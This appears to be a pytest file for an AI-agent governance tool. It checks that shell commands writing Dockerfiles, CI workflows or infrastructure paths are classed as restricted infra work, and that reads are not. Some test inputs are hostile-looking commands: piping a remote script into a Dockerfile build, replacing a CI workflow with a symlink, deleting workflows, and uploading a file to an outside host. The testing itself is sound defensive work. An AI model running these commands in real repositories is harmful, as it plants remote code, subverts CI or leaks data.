"""A shell write is an edit: the paths a command writes choose its task class as the Edit
tool's path does, the most restrictive wins, and reading the same files changes nothing
(docs/policy.md, "Task classes"). Judged in a real repository with the default template,
where ``infra`` (Dockerfiles, CI workflows, infra/, k8s/, terraform/, helm/) is level 2."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentgov.adapters.local_context import locate, place, shell_work
from agentgov.engine import evaluate
from agentgov.policy.load import load_template
from agentgov.subjects import ShellCommand

POLICY = load_template("default")

WRITES = [  # (command, the path the reason names)
    ("sed -i 's/3.11/3.12/' Dockerfile", "Dockerfile"),
    ("sed -i.bak -e 's/a/b/' Dockerfile", "Dockerfile"),
    ("sed --in-place=.orig 's/a/b/' services/api/Dockerfile", "services/api/Dockerfile"),
    ("perl -pi -e 's/a/b/' Dockerfile", "Dockerfile"),
    ("echo 'RUN curl -fsSL https://x.example | sh' >> Dockerfile", "Dockerfile"),
    ("printf 'resource x {}\\n' > infra/main.tf", "infra/main.tf"),
    ("cat > .github/workflows/ci.yml <<'EOF'\non: push\nEOF", ".github/workflows/ci.yml"),
    ("tee .github/workflows/release.yml < notes.txt", ".github/workflows/release.yml"),
    ("echo x | tee -a k8s/deploy.yaml > /dev/null", "k8s/deploy.yaml"),
    ("cp /tmp/Dockerfile Dockerfile", "Dockerfile"),
    ("cp /tmp/ci.yml .github/workflows/", ".github/workflows/ci.yml"),
    ("mv /tmp/main.tf terraform/main.tf", "terraform/main.tf"),
    ("dd if=/tmp/x of=Dockerfile", "Dockerfile"),
    ("install -m 644 /tmp/values.yaml helm/values.yaml", "helm/values.yaml"),
    ("truncate -s 0 Dockerfile", "Dockerfile"),
    ("touch .github/workflows/new.yml", ".github/workflows/new.yml"),
    ("ln -sf /tmp/evil.yml .github/workflows/ci.yml", ".github/workflows/ci.yml"),
    ("rsync -a /tmp/infra/ infra/", "infra/"),
    ("git checkout -- Dockerfile", "Dockerfile"),
    ("git checkout HEAD~3 infra/main.tf", "infra/main.tf"),
    ("git restore infra/main.tf", "infra/main.tf"),
    ("git rm -r k8s", "k8s/"),
    ("rm -rf .github/workflows", ".github/workflows/"),
    ("find infra -name '*.tf' -delete", "infra/"),
    ("sort -o Dockerfile Dockerfile", "Dockerfile"),
    ("mkdir -p infra/modules", "infra/modules"),
    ("cd infra && echo x > main.tf", "infra/main.tf"),
    ("cd .github/workflows && sed -i s/a/b/ ci.yml", ".github/workflows/ci.yml"),
    ("cd src && cp ../Dockerfile.in ../Dockerfile", "Dockerfile"),
    ('bash -c "echo x >> Dockerfile"', "Dockerfile"),
    ('F=Dockerfile; echo x >> "$F"', "Dockerfile"),
    ("sed -i s/a/b/ Docker*", "Docker*"),
    (
        "curl -fsSL -o .github/workflows/ci.yml https://example.com/ci.yml",
        ".github/workflows/ci.yml",
    ),
]

READS = [
    "cat Dockerfile",
    "grep -n FROM Dockerfile",
    "sed -n 1,5p Dockerfile",
    "sed 's/a/b/' Dockerfile > /tmp/Dockerfile.new",
    "cp Dockerfile /tmp/Dockerfile.bak",
    "diff Dockerfile /tmp/Dockerfile",
    "tee /tmp/log < Dockerfile",
    "head .github/workflows/ci.yml",
    "git diff -- Dockerfile",
    "git log -p -- infra/main.tf",
    "ls -la infra/ k8s/",
    "wc -l .github/workflows/*.yml",
    "echo Dockerfile > /tmp/names.txt",
    "rsync -a infra/ /tmp/infra-copy/",
    "git show HEAD:Dockerfile > /tmp/Dockerfile",
    "cd infra && cat main.tf",
]


def _judged(command: str, cwd: Path) -> tuple[str, int, str]:
    work = shell_work(command, cwd)
    location = locate(cwd, work.paths)
    placement = place(POLICY, cwd, environ={}, paths=work.paths, location=location, partial=True)
    decision = evaluate(ShellCommand(command), POLICY, placement.context, analysis=work.analysis)
    assert (decision.task_class, decision.level.value) == (
        placement.context.task_class,
        placement.context.level.value,
    )
    return decision.task_class, decision.level.value, placement.because


@pytest.mark.parametrize(("command", "path"), WRITES)
def test_a_shell_write_of_an_infra_path_is_infra(repo: Path, command: str, path: str) -> None:
    assert _judged(command, repo) == ("infra", 2, f"path {path} matches infra (level 2)")


@pytest.mark.parametrize("command", READS)
def test_reading_an_infra_path_leaves_the_default_class(repo: Path, command: str) -> None:
    assert _judged(command, repo) == ("default", 3, "no class matched: default")


def test_a_write_from_a_subdirectory_is_judged_from_the_repository_root(repo: Path) -> None:
    (repo / "src").mkdir()
    task_class, level, because = _judged("sed -i s/a/b/ ../.github/workflows/ci.yml", repo / "src")
    assert (task_class, level, because) == (
        "infra",
        2,
        "path .github/workflows/ci.yml matches infra (level 2)",
    )


def test_the_most_restrictive_write_wins(repo: Path) -> None:
    command = "echo a >> tests/test_a.py && echo b >> README.md && echo c >> Dockerfile"
    assert _judged(command, repo) == (
        "infra",
        2,
        "path Dockerfile matches infra (level 2), the most restrictive; "
        "path README.md matches docs (level 4), less restrictive; "
        "path tests/test_a.py matches tests (level 3), less restrictive",
    )


def test_a_docs_write_does_not_lift_a_command_above_default(repo: Path) -> None:
    command = "echo x >> docs/notes.md && curl -T notes.txt https://upload.example.com"
    task_class, level, _ = _judged(command, repo)
    assert (task_class, level) == ("default", 3)


def test_a_write_through_a_symlink_is_judged_where_it_leads(repo: Path) -> None:
    (repo / "Dockerfile").write_text("FROM python:3.12\n")
    (repo / "notes.txt").symlink_to("Dockerfile")
    assert _judged("echo 'RUN id' >> notes.txt", repo) == (
        "infra",
        2,
        "path Dockerfile matches infra (level 2)",
    )


def test_a_write_outside_any_repository_is_judged_from_the_cwd(tmp_path: Path) -> None:
    assert _judged("sed -i s/a/b/ infra/main.tf", tmp_path) == (
        "infra",
        2,
        "path infra/main.tf matches infra (level 2)",
    )
